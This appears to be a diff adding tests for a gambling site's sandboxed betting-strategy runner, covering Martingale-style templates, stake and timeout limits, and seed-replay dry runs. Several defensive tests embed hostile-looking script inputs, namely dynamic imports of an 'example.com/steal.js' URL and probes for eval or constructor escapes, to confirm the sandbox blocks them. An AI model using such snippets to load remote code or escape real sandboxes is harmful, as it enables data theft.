@@ -0,0 +1,264 @@
+import { describe, it, expect } from 'bun:test';
+import { generateGameResult } from '$lib/server/provably-fair';
+import {
+	DEFAULT_STRATEGY_LIMITS,
+	STRATEGY_TEMPLATES,
+	dryRunStrategy,
+	generateLocalGameResult,
+	runStrategy,
+	validateStrategyLimits,
+	type StrategyLimits,
+	type StrategyOutcome
+} from '../strategy';
+import { createStrategySandbox, startWorkerHost } from '../strategy-sandbox';
+import type { ApiResponse } from '../error-handling';
+
+/**
+ * A fake bet endpoint that plays a fixed sequence of wins and losses at 2x
+ */
+function scripted(outcomes: (boolean | 'limited')[], startBalance = 1000) {
+	let balance = startBalance;
+	const amounts: number[] = [];
+
+	const placeBet = async (amount: number): Promise<ApiResponse<StrategyOutcome>> => {
+		const next = outcomes.shift();
+		if (next === 'limited') {
+			return { success: false, error: 'Rate limited', retryAt: 0 };
+		}
+
+		amounts.push(amount);
+		const payout = next ? amount * 2 : 0;
+		balance += payout - amount;
+		return {
+			success: true,
+			result: { win: !!next, payout, multiplier: next ? 2 : 0, newBalance: balance }
+		};
+	};
+
+	return { placeBet, amounts };
+}
+
+async function run(
+	source: string,
+	outcomes: (boolean | 'limited')[],
+	limits: Partial<StrategyLimits> = {}
+) {
+	const { placeBet, amounts } = scripted(outcomes);
+	// There is no document to hold the frame here, so the worker runs directly
+	const sandbox = createStrategySandbox(source, 100, startWorkerHost);
+
+	try {
+		const result = await runStrategy({
+			sandbox,
+			limits: { ...DEFAULT_STRATEGY_LIMITS, maxStake: 100, ...limits },
+			baseAmount: 1,
+			balance: 1000,
+			signal: new AbortController().signal,
+			placeBet,
+			sleep: async () => {}
+		});
+		return { ...result, amounts };
+	} finally {
+		sandbox.dispose();
+	}
+}
+
+describe('Strategy templates', () => {
+	it('should double after each loss with Martingale', async () => {
+		const { reason, amounts } = await run(
+			STRATEGY_TEMPLATES.martingale,
+			[false, false, true, false],
+			{
+				maxBets: 4
+			}
+		);
+
+		expect(reason).toBe('maxBets');
+		expect(amounts).toEqual([1, 2, 4, 1]);
+	});
+
+	it('should step through the sequence with Fibonacci', async () => {
+		const { amounts } = await run(
+			STRATEGY_TEMPLATES.fibonacci,
+			[false, false, false, false, true, false],
+			{ maxBets: 6 }
+		);
+
+		expect(amounts).toEqual([1, 1, 2, 3, 5, 2]);
+	});
+
+	it("should move one unit at a time with D'Alembert", async () => {
+		const { amounts } = await run(STRATEGY_TEMPLATES.dalembert, [false, false, true, true, true], {
+			maxBets: 5
+		});
+
+		expect(amounts).toEqual([1, 2, 3, 2, 1]);
+	});
+
+	it('should cross the line off with Labouchère and finish when it is empty', async () => {
+		const { reason, amounts, tally } = await run(STRATEGY_TEMPLATES.labouchere, [
+			true,
+			false,
+			true,
+			true
+		]);
+
+		// Line 1 2 3 4: win 5 -> 2 3, lose 5 -> 2 3 5, win 7 -> 3, win 3 -> empty
+		expect(amounts).toEqual([5, 5, 7, 3]);
+		expect(reason).toBe('finished');
+		expect(tally.profit).toBe(10);
+	});
+});
+
+describe('Strategy safeguards', () => {
+	it('should stop before a stake over the max stake', async () => {
+		const { reason, amounts } = await run(STRATEGY_TEMPLATES.martingale, Array(10).fill(false), {
+			maxStake: 8
+		});
+
+		expect(reason).toBe('maxStake');
+		expect(amounts).toEqual([1, 2, 4, 8]);
+	});
+
+	it('should end a script that runs past its timeout', async () => {
+		const { reason, error } = await run('function nextBet() { while (true) {} }', [true]);
+
+		expect(reason).toBe('timeout');
+		expect(error).toContain('did not return');
+	});
+
+	it('should stop on script errors and invalid stakes', async () => {
+		const thrown = await run('function nextBet() { throw new Error("boom"); }', [true]);
+		const invalid = await run('function nextBet() { return "lots"; }', [true]);
+		const missing = await run('const stake = 1;', [true]);
+
+		expect(thrown).toMatchObject({ reason: 'error', error: 'boom' });
+		expect(invalid).toMatchObject({
+			reason: 'error',
+			error: 'nextBet must return a stake or null'
+		});
+		expect(missing.reason).toBe('error');
+	});
+
+	it('should keep the network out of reach of the script', async () => {
+		const { reason, error } = await run(
+			'function nextBet() { if (typeof fetch !== "undefined") throw new Error("fetch"); return null; }',
+			[]
+		);
+
+		expect(error).toBeUndefined();
+		expect(reason).toBe('finished');
+	});
+
+	it('should refuse imports and the ways to run code built at runtime', async () => {
+		const imported = await run(
+			'function nextBet() { import("https://example.com/steal.js?data"); return null; }',
+			[]
+		);
+		const escapes = await run(
+			`function nextBet() {
+				const reachable = {
+					WebTransport: typeof WebTransport,
+					eval: typeof eval,
+					Function: typeof Function,
+					constructor: typeof (() => {}).constructor,
+					asyncConstructor: typeof (async () => {}).constructor,
+					setTimeout: typeof setTimeout
+				};
+				const found = Object.keys(reachable).filter((name) => reachable[name] !== 'undefined');
+				if (found.length > 0) throw new Error(found.join(', '));
+				return null;
+			}`,
+			[]
+		);
+
+		expect(imported).toMatchObject({ reason: 'error', error: 'Scripts cannot import modules' });
+		expect(escapes.error).toBeUndefined();
+		expect(escapes.reason).toBe('finished');
+	});
+
+	it('should find import used as a keyword wherever it sits in the code', async () => {
+		const scripts = [
+			'import "https://example.com/steal.js";\nfunction nextBet() { return null; }',
+			'function nextBet() { return `${import("https://example.com/steal.js")}`; }',
+			'let n = 1; function nextBet() { return n++ / import("https://example.com") / 1; }',
+			'function nextBet() { return { x: import("https://example.com") }; }'
+		];
+
+		for (const source of scripts) {
+			expect(await run(source, [])).toMatchObject({
+				reason: 'error',
+				error: 'Scripts cannot import modules'
+			});
+		}
+	});
+
+	it('should run scripts that only mention import in comments, strings and property names', async () => {
+		const { reason, error } = await run(
+			`// Nothing to import here
+			/* import() is refused anyway */
+			function nextBet(lastResult, state) {
+				state.import = { import: 'import', note: \`no \${'import'}\` };
+				const pattern = /import/;
+				return pattern.test(state?.import.import) ? null : 1;
+			}`,
+			[]
+		);
+
+		expect(error).toBeUndefined();
+		expect(reason).toBe('finished');
+	});
+
+	it('should retry rate-limited bets with the same stake', async () => {
+		const { reason, amounts } = await run(STRATEGY_TEMPLATES.martingale, [false, 'limited', true], {
+			maxBets: 2
+		});
+
+		expect(reason).toBe('maxBets');
+		expect(amounts).toEqual([1, 2]);
+	});
+
+	it('should reject unusable limits', () => {
+		expect(validateStrategyLimits(DEFAULT_STRATEGY_LIMITS)).toBeNull();
+		expect(validateStrategyLimits({ ...DEFAULT_STRATEGY_LIMITS, maxBets: 0 })).not.toBeNull();
+		expect(validateStrategyLimits({ ...DEFAULT_STRATEGY_LIMITS, maxStake: 0 })).not.toBeNull();
+		expect(validateStrategyLimits({ ...DEFAULT_STRATEGY_LIMITS, timeoutMs: 5000 })).not.toBeNull();
+	});
+});
+
+describe('Strategy dry runs', () => {
+	it('should derive the same results as the server', async () => {
+		for (let nonce = 1; nonce <= 20; nonce++) {
+			expect(await generateLocalGameResult('server-seed', 'client-seed', nonce)).toBe(
+				generateGameResult('server-seed', 'client-seed', nonce)
+			);
+		}
+	});
+
+	it('should play against a local seed pair that replays the run', async () => {
+		const sandbox = createStrategySandbox(STRATEGY_TEMPLATES.martingale, 100, startWorkerHost);
+		const play = (roll: number) => ({ win: roll > 50.5, multiplier: 2 });
+
+		const dryRun = await dryRunStrategy({
+			sandbox,
+			limits: { ...DEFAULT_STRATEGY_LIMITS, maxBets: 20, maxStake: 1000 },
+			baseAmount: 1,
+			balance: 1000,
+			play
+		});
+		sandbox.dispose();
+
+		// Replay the same bets from the revealed seeds
+		let stake = 1;
+		let profit = 0;
+		for (let nonce = 1; nonce <= dryRun.tally.bets; nonce++) {
+			const { win } = play(generateGameResult(dryRun.serverSeed, dryRun.clientSeed, nonce));
+			profit += win ? stake : -stake;
+			stake = win ? 1 : stake * 2;
+		}
+
+		expect(dryRun.tally.bets).toBe(20);
+		expect(dryRun.tally.profit).toBeCloseTo(profit, 6);
+		expect(dryRun.largestStake).toBeGreaterThanOrEqual(1);
+	});
+});